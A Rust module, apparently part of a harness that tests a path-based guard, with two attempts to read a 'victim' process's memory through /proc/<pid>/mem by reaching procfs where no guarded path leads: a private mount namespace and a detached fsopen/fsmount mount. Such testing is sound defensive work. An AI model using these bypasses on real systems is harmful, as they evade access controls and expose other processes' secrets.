//! Another procfs: paths are of no use to who guards by path.

use std::ffi::CStr;
use std::fs::{File, create_dir_all};
use std::path::Path;

use rustix::fs::{Mode, OFlags, openat};
use rustix::mount::{MountFlags, MountPropagationFlags, mount, mount_change};

use super::mem::read_at;
use crate::kernel::adopt;
use crate::{Attempt, Stage, call};

/// Mounted in a mount name space of the attacker's own, which goes with it.
pub(super) fn mounted(stage: &Stage) -> Attempt {
    call!(libc::SYS_unshare, libc::CLONE_NEWNS)?;
    mount_change("/", MountPropagationFlags::PRIVATE | MountPropagationFlags::REC)?;
    let place = stage.directory.join("proc");
    create_dir_all(&place)?;
    mount("proc", &place, "proc", MountFlags::empty(), None::<&CStr>)?;
    let held = stage.victim.held();
    read_at(&File::open(place.join(format!("{}/mem", held.pid)))?, &held.memory)
}

/// `fsopen(2)`, `fsmount(2)`: a file system that no path leads to.
pub(super) fn detached(stage: &Stage) -> Attempt {
    const FSCONFIG_CMD_CREATE: i32 = 6;
    let context = adopt(call!(libc::SYS_fsopen, c"proc", 0)?)?;
    call!(libc::SYS_fsconfig, &context, FSCONFIG_CMD_CREATE, 0, 0, 0)?;
    let root = adopt(call!(libc::SYS_fsmount, &context, 0, 0)?)?;
    let held = stage.victim.held();
    let path = format!("{}/mem", held.pid);
    let file = openat(&root, Path::new(&path), OFlags::RDONLY | OFlags::CLOEXEC, Mode::empty())?;
    read_at(&File::from(file), &held.memory)
}
